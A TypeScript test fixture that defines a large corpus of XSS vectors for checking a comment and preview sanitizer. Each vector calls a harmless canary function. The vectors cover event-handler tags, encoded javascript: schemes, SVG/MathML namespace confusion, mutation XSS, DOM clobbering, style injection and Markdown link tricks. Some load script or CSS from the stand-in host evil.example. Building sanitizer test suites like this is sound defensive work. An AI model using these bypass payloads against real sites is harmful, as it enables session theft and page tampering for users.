/**
 * The project's own XSS corpus for user-written content (comments, previews): each vector, if
 * any part of it ran, would call the page's canary `__xss(…)`. Grouped by technique; written
 * for this project from the published classes of attack (handlers, javascript: encodings,
 * namespace confusion, mutation XSS, DOM clobbering, style injection, Markdown link forms).
 */

/** What every vector tries to run. Tests define `window.__xss` and expect it never called. */
export const CANARY = '__xss(1)';
const P = CANARY;

const HANDLER_TAGS: Array<[string, string]> = [
  ['img', '<img src=x onerror="P">'],
  ['img unquoted', '<img src=x onerror=P>'],
  ['img slash', '<img/src=x/onerror=P>'],
  ['img newline', '<img src=x\nonerror=P>'],
  ['img tab', '<img\tsrc=x\tonerror=P>'],
  ['img upper', '<IMG SRC=x ONERROR=P>'],
  ['img entity handler', '<img src=x onerror="&#95;&#95;xss(1)">'],
  ['img backtick', '<img src=x onerror=`P`>'],
  ['svg onload', '<svg onload=P>'],
  ['svg slash onload', '<svg/onload=P>'],
  ['body onload', '<body onload=P>'],
  ['input autofocus', '<input autofocus onfocus=P>'],
  ['select autofocus', '<select autofocus onfocus=P></select>'],
  ['textarea autofocus', '<textarea autofocus onfocus=P></textarea>'],
  ['details toggle', '<details open ontoggle=P><summary>x</summary></details>'],
  ['video error', '<video><source onerror=P></video>'],
  ['audio error', '<audio src=x onerror=P></audio>'],
  ['iframe onload', '<iframe onload=P></iframe>'],
  ['marquee', '<marquee onstart=P>x</marquee>'],
  ['a mouseover', '<a href="#" onmouseover=P>hover</a>'],
  ['div pointer', '<div onpointerenter=P>x</div>'],
  ['p focus tabindex', '<p tabindex=0 autofocus onfocus=P>x</p>'],
  ['object error', '<object data=x onerror=P></object>'],
  ['embed', '<embed src=x onload=P>'],
  ['style onload', '<style onload=P></style>'],
  ['link onload', '<link rel=stylesheet href=x onload=P>'],
  ['table background', '<table background="javascript:P"><tr><td>x</td></tr></table>'],
  ['button formaction', '<form><button formaction="javascript:P">x</button></form>'],
  ['isindex', '<isindex type=image src=x onerror=P>'],
  ['animation', '<b style="animation-name:x" onanimationstart=P>x</b>'],
  ['unknown tag handler', '<xss onclick=P autofocus tabindex=1 onfocus=P>x</xss>'],
  ['handler in attribute value split', '<img src="x" alt="a"onerror=P>'],
];

/** javascript: in the encodings browsers still resolve, as an HTML link and a Markdown link. */
const JS_SCHEMES: string[] = [
  'javascript:P',
  'JaVaScRiPt:P',
  ' javascript:P',
  'java\tscript:P',
  'java\nscript:P',
  'java\rscript:P',
  'jav&#x09;ascript:P',
  'jav&#x0A;ascript:P',
  'jav&#x0D;ascript:P',
  '&#106;avascript:P',
  '&#x6A;avascript:P',
  '&#0000106;avascript:P',
  '&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;P',
  'javascript&colon;P',
  'javascript&#58;P',
  'javascript&#x3A;P',
  '\u0001javascript:P',
  '\u0000javascript:P',
  'javascript:/*--></script>*/P',
  'vbscript:P',
  'data:text/html,<script>P</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=P>',
  'DATA:text/html,<script>P</script>',
];

const NAMESPACE: string[] = [
  '<svg><script>P</script></svg>',
  '<svg><style><img src=x onerror=P></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=P>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=P></style></mglyph></table></mtext></math>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=P src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
  '<svg><foreignObject><img src=x onerror=P></foreignObject></svg>',
  '<math href="javascript:P"><mi>x</mi></math>',
  '<svg><animate onbegin=P attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=P>',
  '<svg><a><animate attributeName=href values=javascript:P /><text x=20 y=20>x</text></a></svg>',
  '<svg><a xlink:href="javascript:P"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=P>#x"></use></svg>',
  '<svg><image href=x onerror=P></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:P">x</maction></math>',
  '<svg><title><img src=x onerror=P></title></svg>',
  '<svg><desc><style><img src=x onerror=P></style></desc></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=P></annotation-xml></math>',
  '<svg><![CDATA[><img src=x onerror=P>]]></svg>',
];

const MUTATION: string[] = [
  '<noscript><p title="</noscript><img src=x onerror=P>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=P>',
  '<xmp><p title="</xmp><img src=x onerror=P>">',
  '<iframe><p title="</iframe><img src=x onerror=P>">',
  '<noembed><p title="</noembed><img src=x onerror=P>">',
  '<noframes><p title="</noframes><img src=x onerror=P>">',
  '<title><p title="</title><img src=x onerror=P>">',
  '<textarea><p title="</textarea><img src=x onerror=P>">',
  '<style><p title="</style><img src=x onerror=P>">',
  '<!--><img src=x onerror=P>-->',
  '<!-- --!><img src=x onerror=P>-->',
  '<? foo="><img src=x onerror=P>">',
  '</x/><img src=x onerror=P>',
  '<a href="x" title="`&gt;<img src=x onerror=P>">y</a>',
  '<p title="&lt;img src=x onerror=P&gt;">decoded attribute</p>',
  '<listing>&lt;img src=x onerror=P&gt;</listing>',
  '<plaintext><img src=x onerror=P>',
  '<template><img src=x onerror=P></template>',
  '<select><template><img src=x onerror=P></template></select>',
  '<table><caption><img src=x onerror=P></caption></table>',
  '<svg><p><style><img src=x onerror=P></style></p></svg>',
  '<div><![CDATA[</div><img src=x onerror=P>]]>',
];

const CLOBBERING: string[] = [
  '<a id="__xss" href="javascript:P">clobber the canary</a>',
  '<form name="getElementById"><input name="x"></form>',
  '<img name="getElementById" src=x>',
  '<a id="defaultView"></a><a id="defaultView" name="href" href="javascript:P">x</a>',
  '<input name="attributes">',
  '<form id="x"><input name="y"></form>',
  '<img id="currentScript" src=x>',
  '<a id="panel">the widget uses ids like this</a>',
  '<p id="comments-panel">steal the disclosure target</p>',
  '<span id=":r1:-panel">React useId shape</span>',
  '<object name="body"></object>',
  '<embed name="cookie">',
  '<iframe name="__xss" src="javascript:P"></iframe>',
  '<a id="location" href="javascript:P">x</a>',
  '<form name="location"><input name="href" value="javascript:P"></form>',
];

const STYLE: string[] = [
  '<style>*{display:none !important}</style>hidden page',
  '<div style="background:url(javascript:P)">x</div>',
  '<p style="position:fixed;inset:0;background:red">overlay</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="width:expression(P)">x</div>',
  '<svg><style>*{fill:red}</style></svg>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<b style="-moz-binding:url(x.xml#xss)">x</b>',
  '<span style="background-image:url(&quot;javascript:P&quot;)">x</span>',
  '<style>:host{display:none}</style>',
  '<p class="banner important">dressed as the widget</p>',
  '<p role="alert" aria-live="assertive">fake alert</p>',
  '<meta http-equiv="refresh" content="0;url=javascript:P">',
  '<base href="javascript:P//">',
];

const MARKDOWN_LINKS: string[] = [
  '[x](javascript:P)',
  '[x]( javascript:P)',
  '[x](<javascript:P>)',
  '[x](JAVASCRIPT:P)',
  '[x](javascript:__xss&#40;1&#41;)',
  '[x](javascript%3AP)',
  '[x][r]\n\n[r]: javascript:P',
  '[x]\n\n[x]: javascript:P',
  '[x][]\n\n[x]: javascript:P "title"',
  '[x][1]',
  '[x][undefined]',
  '[x](" onmouseover="P)',
  '[x](https://a.example" onmouseover="P)',
  '![x](x" onerror="P)',
  '![x](javascript:P)',
  '![x](data:image/svg+xml,<svg onload=P>)',
  '[![x](y)](javascript:P)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](//evil.example)',
  '[x](data:text/html,<script>P</script>)',
  '[a [b] c](javascript:P)',
  '[x](javascript:P "title")',
  '[<img src=x onerror=P>](https://a.example)',
  '[x](https://a.example/<img src=x onerror=P>)',
  '**[x](javascript:P)**',
  '> [x](javascript:P)',
  '- [x](javascript:P)',
  '`code` [x](javascript:P) `code`',
  '```\n<img src=x onerror=P>\n```',
  '`<img src=x onerror=P>`',
  '# [x](javascript:P)',
];

const AUTOLINKS: string[] = [
  '<javascript:P>',
  '<JAVASCRIPT:P>',
  '<https://a.example/"onmouseover="P>',
  '<https://a.example/<img src=x onerror=P>>',
  '<mailto:x@a.example?body=<script>P</script>>',
  '<data:text/html,<script>P</script>>',
  '<vbscript:P>',
  '<https://a.example/\'onmouseover=\'P>',
  '<x@a.example" onmouseover="P>',
  'https://a.example/<svg onload=P>',
];

const MENTIONS: string[] = [
  '@<img src=x onerror=P>',
  '@alice"onmouseover="P',
  '@x<script>P</script>',
  '@javascript:P',
  '[@alice](javascript:P)',
  '<a href="/users/@alice" onclick=P>@alice</a>',
];

const SCRIPTS: string[] = [
  '<script>P</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>P</scr</script>ipt>',
  '<script/xss>P</script>',
  '<script type="module">P</script>',
  '<iframe srcdoc="<script>parent.__xss(1)</script>"></iframe>',
  '<iframe src="javascript:parent.__xss(1)"></iframe>',
  '<embed src="javascript:P">',
  '<object data="javascript:P"></object>',
  '<template><script>P</script></template>',
  '<a href="javascript:P" target="_blank">new tab</a>',
  '<area href="javascript:P">',
  '<form action="javascript:P"><input type=submit></form>',
  '<input type="image" src=x onerror=P>',
  '<frameset onload=P>',
  '"><script>P</script>',
  "'><img src=x onerror=P>",
  '</textarea><script>P</script>',
];

export interface XssVector {
  name: string;
  source: string;
}

const fill = (text: string) => text.replace(/\bP\b/g, P);

/** Every vector, named; at least 150. */
export const XSS_VECTORS: XssVector[] = [
  ...HANDLER_TAGS.map(([name, source]) => ({ name: `handler: ${name}`, source: fill(source) })),
  ...JS_SCHEMES.flatMap((scheme, i) => [
    { name: `scheme ${i} in <a href>`, source: `<a href="${fill(scheme)}">link</a>` },
    { name: `scheme ${i} in a Markdown link`, source: `[link](${fill(scheme).replace(/[()\s]/g, (c) => encodeURIComponent(c))})` },
  ]),
  ...NAMESPACE.map((source, i) => ({ name: `namespace ${i}`, source: fill(source) })),
  ...MUTATION.map((source, i) => ({ name: `mutation ${i}`, source: fill(source) })),
  ...CLOBBERING.map((source, i) => ({ name: `clobbering ${i}`, source: fill(source) })),
  ...STYLE.map((source, i) => ({ name: `style ${i}`, source: fill(source) })),
  ...MARKDOWN_LINKS.map((source, i) => ({ name: `markdown link ${i}`, source: fill(source) })),
  ...AUTOLINKS.map((source, i) => ({ name: `autolink ${i}`, source: fill(source) })),
  ...MENTIONS.map((source, i) => ({ name: `mention ${i}`, source: fill(source) })),
  ...SCRIPTS.map((source, i) => ({ name: `script ${i}`, source: fill(source) })),
];
